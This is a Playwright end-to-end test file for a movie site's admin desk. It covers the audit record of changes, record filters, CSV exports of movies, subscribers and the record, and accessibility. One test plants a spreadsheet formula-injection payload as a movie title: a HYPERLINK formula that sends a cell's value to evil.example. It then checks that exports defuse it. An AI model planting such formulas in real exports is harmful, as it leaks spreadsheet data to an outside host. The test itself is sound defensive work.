import { readFile } from 'node:fs/promises'
import type { Locator, Page } from '@playwright/test'
import type { AdminMovie } from '../packages/contract/src/admin-movies.ts'
import { expectAccessibleAtAnyWidth } from './accessibility.ts'
import { type Admin, createAdmin, callAsAdmin, deskScreen, openDesk } from './admins.ts'
import { readCsv } from './csv.ts'
import { expect, currentServer, navigate, test } from './test-app.ts'
import { createMember } from './members.ts'
import { createSubscriber } from './premium.ts'

test.use({ expectedErrors: /status of (401|500|503)|ERR_EMPTY_RESPONSE/ })

let admin: Admin
test.beforeAll(async () => void (admin = await createAdmin()))

const panel = deskScreen
const entries = (page: Page) =>
  panel(page)
    .getByRole('row')
    .filter({ has: page.getByRole('button', { name: /^Details: / }) })
/** One that was done to something of this name. */
const entry = (page: Page, action: string, target: string) =>
  entries(page).filter({ hasText: action }).filter({ hasText: target })
const open = async (row: Locator) => {
  const button = row.getByRole('button')
  await button.click()
  await expect(button).toHaveAttribute('aria-expanded', 'true')
}
/** What stands below the entry that is open: field, before and after. */
const changes = async (page: Page) =>
  await Promise.all(
    (await panel(page).locator('table table tbody tr').all()).map((row) => row.locator('th, td').allInnerTexts()),
  )

let made = 0
const draft = (title: string) => ({
  title,
  description: 'A clerk finds a letter that was never sent, and spends a winter looking for the one it was meant for.',
  genres: ['Drama'],
  year: 1999,
  rating: 7.1,
  imageUrl: `${currentServer().url}/placeholder-movie.jpg`,
  videoUrl: `${currentServer().url}/no-such-trailer.mp4`,
})
const newTitle = (name: string) => `${name} ${process.pid.toString(36)}${made++}`
/** What is added here is taken away again. */
const added = new Set<string>()
const addMovie = async (by: Admin, title: string) => {
  const { movie } = await callAsAdmin<{ movie: AdminMovie }>(by, 'POST', '/api/movies', draft(title))
  added.add(movie._id)
  return movie
}
const deleteMovie = async (by: Admin, id: string) => {
  added.delete(id)
  await callAsAdmin(by, 'DELETE', `/api/movies/${id}`)
}
test.afterEach(async () => {
  for (const id of added) await deleteMovie(admin, id)
})

test('what is done at the desk stands on record: who, what, before and after, when and from where @full', async ({
  page,
  isMobile,
}) => {
  test.slow()
  const own = await createAdmin()
  const title = newTitle('The Letter')
  const movie = await addMovie(own, title)
  const later = `${title} Found`
  await callAsAdmin(own, 'PUT', `/api/movies/${movie._id}`, {
    ...draft(later),
    year: 2001,
    description: draft(later).description.replace('a winter', 'two long winters'),
  })
  await deleteMovie(own, movie._id)

  await openDesk(page, own, 'tab=record&by=me')
  const changed = entry(page, 'Changed a movie', later)
  await expect(changed).toBeVisible()
  await expect(changed.getByText(own.email)).toBeVisible()
  const when = changed.locator('time')
  await expect(when).toHaveText(/just now|minute/)
  await expect(when).toHaveAttribute('title', /\d{4}.*\d\d:\d\d/)
  if (!isMobile) await expect(changed.getByText(/^(10\.|127\.|::)/)).toBeVisible()
  await expect(changed.getByRole('link', { name: later })).toHaveAttribute(
    'href',
    new RegExp(`tab=movie&id=${movie._id}$`),
  )

  // Only what changed, in words; a long text shows the words that did.
  await open(changed)
  // Without pointing at anything.
  await expect(panel(page).getByText(/^Entry \d+ · \d+ \w+ \d{4}, \d\d:\d\d:\d\d UTC/)).toBeVisible()
  const shown = await changes(page)
  expect(shown).toContainEqual(['Title', title, later])
  expect(shown).toContainEqual(['Year', '1999', '2001'])
  expect(shown.map(([field]) => field).toSorted()).toEqual(['Description', 'Title', 'Year'])
  const text = panel(page).getByRole('row', { name: /^Description/ })
  await expect(text.locator('del')).toHaveText(/^a winter/)
  await expect(text.locator('ins')).toHaveText(/^two long winters/)

  // By keys, and closed again.
  const button = changed.getByRole('button')
  await button.focus()
  await page.keyboard.press('Enter')
  await expect(panel(page).locator('table table')).toHaveCount(0)
  await expect(button).toHaveAttribute('aria-expanded', 'false')

  await open(entry(page, 'Added a movie', title).filter({ hasNotText: 'Found' }))
  expect(await changes(page)).toContainEqual(['Genres', 'Drama'])
  await open(entry(page, 'Deleted a movie', later))
  await expect(entry(page, 'Deleted a movie', later).getByRole('link')).toHaveAttribute('href', /state=deleted/)
  await expect(entry(page, 'Logged in as an admin', own.email)).toBeVisible()
})

// What is refused or does not come, and where an entry leads: apps/web/app/features/desk/audit-log/audit-log-tab.test.tsx.

test('filters by action and by who, kept in the address; what fits nothing says so @full', async ({ page }) => {
  test.slow()
  const [own, other] = [await createAdmin(), await createAdmin()]
  const mine = newTitle('Mine')
  const theirs = newTitle('Theirs')
  const movie = await addMovie(own, mine)
  const { _id: foreign } = await addMovie(other, theirs)
  await deleteMovie(other, movie._id)
  await deleteMovie(other, foreign)
  await openDesk(page, own, 'tab=record')
  await expect(entry(page, 'Added a movie', mine)).toBeVisible()
  await expect(entry(page, 'Added a movie', theirs)).toBeVisible()

  await panel(page).getByRole('radio', { name: 'Only mine' }).click({ force: true })
  await expect(page).toHaveURL(/by=me/)
  await expect(entry(page, 'Added a movie', mine)).toBeVisible()
  await expect(entry(page, 'Added a movie', theirs)).toHaveCount(0)
  await expect(entry(page, 'Logged in as an admin', own.email)).toBeVisible()

  const action = panel(page).getByRole('combobox', { name: 'Action' })
  await action.selectOption('Added a movie')
  await expect(page).toHaveURL(/action=movie\.add/)
  await expect(entries(page)).toHaveCount(1)
  await page.reload()
  await expect(entries(page)).toHaveCount(1)
  await expect(action).toHaveValue('movie.add')
  await expect(panel(page).getByText('There are no older entries.')).toBeVisible()

  await action.selectOption('Restored a movie')
  await expect(panel(page).getByText('No entries match your filters.')).toBeVisible()
  await page.goBack()
  await expect(entries(page)).toHaveCount(1)
  await action.selectOption('Restored a movie')
  await panel(page).getByRole('button', { name: 'Clear filters' }).click()
  await expect(entry(page, 'Added a movie', theirs)).toBeVisible()

  // Everything about one movie.
  await navigate(page, `/admin/dashboard?tab=record&about=${movie._id}`)
  await expect(entries(page)).toHaveCount(2)
  await expect(entry(page, 'Added a movie', mine)).toBeVisible()
})

/** Presses the button and opens what was saved. */
async function downloadRows(page: Page, name: RegExp) {
  const saved = page.waitForEvent('download')
  await panel(page).getByRole('button', { name: 'Export CSV' }).click()
  const download = await saved
  expect(download.suggestedFilename()).toMatch(name)
  const bytes = await readFile(await download.path())
  await expect(page.getByText(`${download.suggestedFilename()} has been saved.`)).toBeVisible()
  // What a spreadsheet knows UTF-8 by.
  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  const text = bytes.subarray(3).toString('utf8')
  expect(text.endsWith('\r\n')).toBe(true)
  const [head = [], ...rows] = readCsv(text)
  expect(rows.every((row) => row.length === head.length)).toBe(true)
  return { head, rows }
}

test('movies, subscribers and the record are taken along as CSV, and no cell is a formula @full', async ({ page }) => {
  test.slow()
  const own = await createAdmin()
  const formula = `=HYPERLINK("https://evil.example/?x="&A1,"Click, ${process.pid}.${made++}")`
  await addMovie(own, formula)
  const member = await createMember(page.request)
  await createSubscriber(page, 'yearly')

  await openDesk(page, own, 'tab=movies')
  const movies = await downloadRows(page, /^movies-\d{4}-\d\d-\d\d\.csv$/)
  const titles = movies.rows.map((row) => row[movies.head.findIndex((name) => /title/i.test(name))])
  expect(titles).toContain(`'${formula}`)

  await navigate(page, '/admin/dashboard?tab=subscribers&plan=yearly')
  await expect(panel(page).locator('tbody [data-cell=plan]').first()).toHaveText('Yearly')
  const people = await downloadRows(page, /^subscribers-\d{4}-\d\d-\d\d\.csv$/)
  expect(people.rows.length).toBeGreaterThan(5)
  const plan = people.head.findIndex((name) => /plan|type/i.test(name))
  expect(new Set(people.rows.map((row) => row[plan]?.toLowerCase()))).toEqual(new Set(['yearly']))
  expect(JSON.stringify(people.rows)).not.toContain(member.email)

  await navigate(page, '/admin/dashboard?tab=record&by=me')
  await expect(entry(page, 'Exported movies', '')).toBeVisible()
  await expect(entry(page, 'Exported subscribers', '')).toBeVisible()
  const record = await downloadRows(page, /^record-\d{4}-\d\d-\d\d\.csv$/)
  expect(JSON.stringify(record.rows)).toContain('movie.add')

  for (const { rows } of [movies, people, record])
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@\t\r＝＋－＠]/)
})

test('THEME-5 axe finds nothing wrong with the record, and it fits 320 px @full', async ({ page }) => {
  test.slow()
  const { _id: id } = await addMovie(admin, newTitle('Axe'))
  await deleteMovie(admin, id)
  await openDesk(page, admin, 'tab=record&action=movie.add')
  await expect(entries(page).first()).toBeVisible()
  await open(entries(page).first())
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true)
  await expectAccessibleAtAnyWidth(page)
})
